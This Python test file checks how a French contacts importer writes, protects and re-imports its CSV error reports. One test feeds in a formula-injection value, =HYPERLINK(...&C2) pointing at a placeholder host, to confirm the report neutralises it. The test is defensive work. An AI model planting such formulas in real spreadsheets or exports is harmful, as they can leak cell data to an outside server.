"""The report beside the input (`…-rapport.csv`) as a treasurer uses it: opened in French Excel,
corrected, imported again. The file being imported is never replaced or removed."""

from __future__ import annotations

import os

from app.services.contacts.transfer import report_path_for
from tests.unit.import_helpers import details, dry_run, report_rows, run_file, write

LIST = (
    "Prénom;Nom;E-mail;Association;SIRET;Fonction\r\n"
    "Hélène;Lefèvre;helene-sans-arobase;Les Amis;;Trésorière\r\n"  # 2: imported with a warning
    ";;anne@exemple.fr;;;\r\n"  # 3: refused
    "Paul;Roux;paul@exemple.fr;Les Amis;;Président\r\n"  # 4: fine
)


def _corrected(report, replacements: dict[str, str]) -> str:
    text = report.read_text(encoding="utf-8-sig")
    for old, new in replacements.items():
        text = text.replace(old, new)
    return text


def test_report_names_never_the_file_being_imported(tmp_path):
    assert report_path_for(tmp_path / "adherents.csv").name == "adherents-rapport.csv"
    assert report_path_for(tmp_path / "adherents.xlsx").name == "adherents-rapport.csv"
    assert report_path_for(tmp_path / "adherents-rapport.csv").name == "adherents-rapport-2.csv"
    assert report_path_for(tmp_path / "adherents-rapport-2.csv").name == "adherents-rapport-3.csv"
    assert report_path_for(tmp_path / "adherents-rapport.xlsx").name == "adherents-rapport-2.csv"


def test_the_corrected_report_imported_again_stays_as_the_user_saved_it(db, tmp_path):
    first = run_file(db, write(tmp_path, LIST, "adherents.csv"))
    report = first.report_path
    corrected = _corrected(report, {";;;anne@exemple.fr;": ";Anne;Petit;anne@exemple.fr;"})
    report.write_text(corrected, encoding="utf-8-sig")
    second = run_file(db, report)
    assert "Anne Petit" in details(db)
    assert report.read_text(encoding="utf-8-sig") == corrected  # the user's work is still there
    assert second.report_path == tmp_path / "adherents-rapport-2.csv"
    [left] = report_rows(second)  # Hélène's e-mail, still to fix, under one set of report columns
    assert (left["Ligne"], left["Valeur"], left["Prénom"]) == ("2", "helene-sans-arobase", "Hélène")
    header = second.report_path.read_text(encoding="utf-8-sig").splitlines()[0]
    assert header == "Ligne;Colonne;Valeur;Raison;Prénom;Nom;E-mail;Association;SIRET;Fonction"


def test_a_corrected_report_with_nothing_left_to_say_is_not_removed(db, tmp_path):
    first = run_file(db, write(tmp_path, LIST, "adherents.csv"))
    report = first.report_path
    corrected = _corrected(
        report,
        {";;;anne@exemple.fr;": ";Anne;Petit;anne@exemple.fr;", "helene-sans-arobase": "helene@exemple.fr"},
    )
    report.write_text(corrected, encoding="utf-8-sig")
    second = run_file(db, report, policy="update")
    assert second.report_path is None
    assert report.read_text(encoding="utf-8-sig") == corrected


def test_a_report_locked_by_a_spreadsheet_goes_beside_it(db, tmp_path, monkeypatch):
    """Windows refuses to replace a file Excel has open: the import still ends, its report
    written under another name."""
    source = write(tmp_path, LIST, "adherents.csv")
    (tmp_path / "adherents-rapport.csv").write_text("ouvert dans Excel", encoding="utf-8")
    real_replace = os.replace

    def locked(src, dst, *args, **kwargs):
        if os.fspath(dst).endswith("adherents-rapport.csv"):
            raise PermissionError(13, "Le processus ne peut pas accéder au fichier")
        return real_replace(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "replace", locked)
    result = run_file(db, source)
    assert result.report_path == tmp_path / "adherents-rapport-2.csv"
    assert [r["Ligne"] for r in report_rows(result)] == ["2", "3"]
    assert (tmp_path / "adherents-rapport.csv").read_text(encoding="utf-8") == "ouvert dans Excel"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left


def test_report_lines_follow_the_file(db, tmp_path):
    text = (
        "Prénom;Nom;E-mail\r\n"
        "Marie;Dupont;marie-sans-arobase\r\n"  # 2: imported, e-mail left out
        ";;anne@exemple.fr\r\n"  # 3: refused
        "Paul;Roux;paul-sans-arobase\r\n"  # 4: imported, e-mail left out
        ";;luc@exemple.fr\r\n"  # 5: refused
    )
    result = run_file(db, write(tmp_path, text))
    assert [r["Ligne"] for r in report_rows(result)] == ["2", "3", "4", "5"]
    assert sorted(g.lines for g in result.outcome.summary.groups.values()) == [[2, 4], [3, 5]]


def test_report_cells_survive_french_excel(db, tmp_path):
    """Excel runs a cell starting with "=" (a formula typed by anyone in an online form) and
    turns a 14-digit SIRET into 1,23457E+13 when it saves: the report keeps both as text, and
    reads them back as they were."""
    siret = "12345678200010"
    text = (
        "Prénom;Nom;E-mail;Association;SIRET\r\n"
        f'Marie;=HYPERLINK("http://exemple.invalid/?"&C2);marie-sans-arobase;Les Amis;{siret}\r\n'
        f";;anne@exemple.fr;Les Amis;{siret}1\r\n"
    )
    result = run_file(db, write(tmp_path, text, "liste.csv"))
    rows = report_rows(result)
    assert rows[0]["Nom"] == '\'=HYPERLINK("http://exemple.invalid/?"&C2)'
    assert rows[0]["SIRET"] == "123 456 782 00010"
    assert rows[1]["Valeur"].split("\n")[0] == "123456782000101"  # not a SIRET: as it was
    report = result.report_path
    report.write_text(
        report.read_text(encoding="utf-8-sig").replace(";;;anne@exemple.fr;", ";Anne;Petit;anne@exemple.fr;"),
        encoding="utf-8-sig",
    )
    run_file(db, report, policy="update")
    found = details(db)
    assert found["Les Amis"].fields.siret == siret
    assert found['Marie =HYPERLINK("http://exemple.invalid/?"&C2)'].fields.last_name.startswith("=")


def test_corrections_of_imported_lines_complete_their_contacts(db, tmp_path):
    """Hélène's line went in without its e-mail and her association without its SIRET; corrected
    in the report and imported again, both are completed: a report is imported with "update"."""
    siret, club = "12345678200010", "87654321600025"
    text = (
        "Prénom;Nom;E-mail;Association;SIRET;Fonction\r\n"
        f"Hélène;Lefèvre;helene-sans-arobase;Les Amis;{siret[:-1]}1;Trésorière\r\n"
        "Paul;Roux;paul@exemple.fr;Club;1234;Président\r\n"
    )
    first = run_file(db, write(tmp_path, text, "adherents.csv"))
    report = first.report_path
    corrected = _corrected(report, {"helene-sans-arobase": "helene@exemple.fr", "1234;": f"{club};"})
    report.write_text(corrected.replace("123 456 782 00011", siret), encoding="utf-8-sig")
    preview = dry_run(db, report)
    counts = preview.outcome.counts
    assert (preview.outcome.policy, counts.created, counts.matched, counts.completable) == ("update", 0, 2, 2)
    assert dry_run(db, report, policy="skip").outcome.counts.completable == 2  # what the dialog offers
    second = run_file(db, report)
    assert second.outcome.counts.completed == 2
    found = details(db)
    assert found["Hélène Lefèvre"].fields.email == "helene@exemple.fr"
    assert found["Les Amis"].fields.siret == siret
    assert found["Club"].fields.siret == club  # an organisation's value, on its member's line
    assert run_file(db, report).outcome.counts.completable == 0  # once done, nothing more to do


def test_a_list_imported_again_unchanged_has_nothing_to_complete(db, tmp_path):
    path = write(tmp_path, LIST, "adherents.csv")
    run_file(db, path)
    again = dry_run(db, path)
    assert (again.outcome.policy, again.outcome.counts.completable) == ("skip", 0)
